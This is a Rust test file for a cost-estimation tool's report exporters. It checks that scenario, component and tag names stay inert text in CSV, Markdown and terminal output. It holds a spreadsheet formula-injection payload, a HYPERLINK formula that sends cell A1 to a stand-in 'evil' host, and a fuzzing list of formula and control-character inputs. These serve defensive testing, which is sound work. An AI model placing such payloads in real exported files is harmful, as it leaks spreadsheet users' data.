//! Text stays text: in spreadsheets of any dialect, in documents, in terminals.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test fails by panicking")]

mod support;

use meridian::catalog::strategy::Strategy as Recovery;
use meridian::engine::budget::budget;
use meridian::engine::compare::compare;
use meridian::engine::estimate::{Grouping, estimate};
use meridian::engine::meter::meter;
use meridian::engine::read::decode;
use meridian::report::sheet::{Cell, Column};
use meridian::report::{
    BudgetOptions, DecimalSign, Dialect, Separator, Sheet, budget_csv, comparison_sheet, estimate_sheet,
    explanation, usage_sheet,
};
use meridian::scenario::{Alternative, Scenario};
use meridian::service::GrowthFactors;
use proptest::prelude::*;
use serde_json::{Value, json};

use support::{book, read};

/// Every dialect that can be chosen.
fn dialects() -> Vec<Dialect> {
    let of = |separator| DecimalSign::ALL.map(|decimal| Dialect { separator, decimal, bom: false });
    Separator::ALL.into_iter().flat_map(of).filter(|d| d.is_clear()).collect()
}

/// Cells as readers with any separator would see them: the right one, and those that do not know quotes in the middle.
fn cells(csv: &str) -> Vec<String> {
    let mut cells = Vec::new();
    for separator in [b',', b';', b'\t', b'|'] {
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(separator)
            .has_headers(false)
            .flexible(true)
            .from_reader(csv.as_bytes());
        cells.extend(reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()));
        cells.extend(csv.lines().flat_map(|line| line.split(char::from(separator)).map(str::to_owned)));
    }
    cells
}

/// What a spreadsheet makes of a cell: what it passes over is gone.
fn begins_formula(cell: &str) -> bool {
    let passed = |c: char| {
        c.is_whitespace()
            || c.is_control()
            || matches!(c, '"' | '\u{200b}'..='\u{200f}' | '\u{feff}' | '\u{ad}' | '\u{2060}'..='\u{206f}' | '\u{202a}'..='\u{202e}')
    };
    let bare = cell.trim_start_matches(passed);
    let number = bare.strip_prefix('-').is_some_and(|rest| {
        rest.starts_with(|c: char| c.is_ascii_digit()) && !rest.contains(char::is_alphabetic)
    });
    bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−', '➕'])
        && !number
}

fn acts(text: &str) -> Option<char> {
    text.chars().find(|c| {
        c.is_control() && !matches!(c, '\n' | '\r')
            || matches!(c, '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
    })
}

/// Everything that is printed of a scenario, by the way it is printed.
fn reports(scenario: &Scenario) -> (Vec<String>, Vec<String>, Vec<String>) {
    let alternative = Alternative { strategy: Recovery::SingleRegion, regions: None };
    let estimate = estimate(scenario, &alternative, book());
    let tables = [
        estimate_sheet(&estimate, Grouping::Component),
        usage_sheet(&meter(scenario, &alternative, GrowthFactors::NONE)),
        comparison_sheet(&compare(scenario, std::slice::from_ref(&alternative), book()), scenario),
    ];
    let months = budget(scenario, &alternative, book(), 1);
    let budgets = dialects().into_iter().map(|dialect| {
        budget_csv(&months, &BudgetOptions { dialect, total: true, ..BudgetOptions::default() })
    });
    let csv = budgets.chain(dialects().into_iter().flat_map(|d| tables.iter().map(move |t| t.to_csv_in(d))));
    let text = tables.iter().map(Sheet::to_text).chain([explanation(&estimate, Some("2026-11-27"))]);
    (csv.collect(), tables.iter().map(Sheet::to_markdown).collect(), text.collect())
}

fn named(name: &str) -> Value {
    json!({"meridian": 1, "name": name, "regions": ["us-east-1"], "components": [
        {"name": name, "tags": {name: name}, "nat_gateway": {"monthly_outbound_gb": 1}}]})
}

/// Each of these as the name of a scenario, of a component and of a tag: refused, or shown as text everywhere.
#[test]
fn names_that_would_act_are_refused_or_text() {
    let names: Vec<String> = serde_json::from_str(&read("faults/names.json")).unwrap();
    let mut shown = 0;
    for name in names.iter().chain([&"\0=HYPERLINK(\"http://evil/?\"&A1;\"open\")".to_owned()]) {
        let Some(scenario) = decode(&named(name).to_string(), book()).scenario else { continue };
        shown += 1;
        let (csv, markdown, text) = reports(&scenario);
        for csv in &csv {
            for cell in cells(csv) {
                assert!(!begins_formula(&cell), "{name:?}: {cell:?}\n{csv}");
            }
            assert_eq!(acts(csv.trim_start_matches('\u{feff}')).filter(|c| *c != '\t'), None, "{name:?}");
        }
        for markdown in &markdown {
            keeps_its_columns(markdown);
            assert!(
                !markdown.contains("<img") && !markdown.replace("\\]", "").contains("]("),
                "{name:?}: {markdown}"
            );
        }
        for text in text.iter().chain(&markdown) {
            assert_eq!(acts(text), None, "{name:?}: {text:?}");
        }
    }
    assert!(shown > 20, "most of them are names");
}

/// Each row has as many cells as the head: an end of a cell is `|` that no odd number of backslashes stands before.
fn keeps_its_columns(markdown: &str) {
    let ends = |line: &str| {
        let (mut ends, mut escaped) = (0, false);
        for c in line.chars() {
            ends += usize::from(c == '|' && !escaped);
            escaped = c == '\\' && !escaped;
        }
        ends
    };
    let mut lines = markdown.lines();
    let head = ends(lines.next().unwrap());
    for line in lines {
        assert_eq!(ends(line), head, "{line}");
    }
}

/// Text that is likelier to hurt than any.
fn nasty() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("=1"),
        Just("+"),
        Just("-2"),
        Just("@SUM(A1)"),
        Just(","),
        Just(";"),
        Just("|"),
        Just("\t"),
        Just("\""),
        Just("'"),
        Just("\n"),
        Just("\r\n"),
        Just("\0"),
        Just(" "),
        Just("\u{a0}"),
        Just("\u{200b}"),
        Just("\u{202e}"),
        Just("\u{feff}"),
        Just("\u{1b}[31m"),
        Just("\\"),
        Just("`"),
        Just("<b>"),
        Just("[x](y)"),
        Just("a"),
        Just("é"),
        Just("漢"),
        Just("＝"),
        Just("1.5"),
    ];
    prop_oneof![proptest::collection::vec(piece, 0..8).prop_map(|p| p.concat()), any::<String>()]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_text_in_any_table(texts in proptest::collection::vec(nasty(), 4)) {
        let mut table = Sheet::new([Column::words("name", "Name"), Column::numbers("sum", "Sum")]);
        table.line([Cell::text(&texts[0]), Cell::number_or_text("12.5".to_owned())]);
        table.line([Cell::text(&texts[1]), Cell::text(&texts[2])]);
        table.line([Cell::text(&texts[3]), Cell::number_or_text("-1".to_owned())]);
        for dialect in dialects() {
            let csv = table.to_csv_in(dialect);
            for cell in cells(&csv) {
                prop_assert!(!begins_formula(&cell), "{:?} in {:?}", cell, csv);
            }
            // Read back by what wrote it, each cell is its text, but for apostrophes and what is written out.
            let separator = u8::try_from(u32::from(dialect.separator.character())).unwrap();
            let mut reader = csv::ReaderBuilder::new().delimiter(separator).from_reader(csv.as_bytes());
            let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            prop_assert_eq!(rows.len(), 3);
            for (row, text) in rows.iter().zip([&texts[0], &texts[1], &texts[3]]) {
                prop_assert_eq!(row.len(), 2);
                prop_assert_eq!(row[0].replace('\'', ""), meridian::report::shown(text).replace('\'', ""));
            }
            prop_assert_eq!(rows[0][1].replace(',', "."), "12.5");
            prop_assert_eq!(&rows[2][1], "-1");
        }
        keeps_its_columns(&table.to_markdown());
        prop_assert_eq!(table.to_markdown().lines().count(), 5);
        prop_assert_eq!(acts(&table.to_text()), None);
        prop_assert_eq!(table.to_text().lines().count(), 5);
    }
}
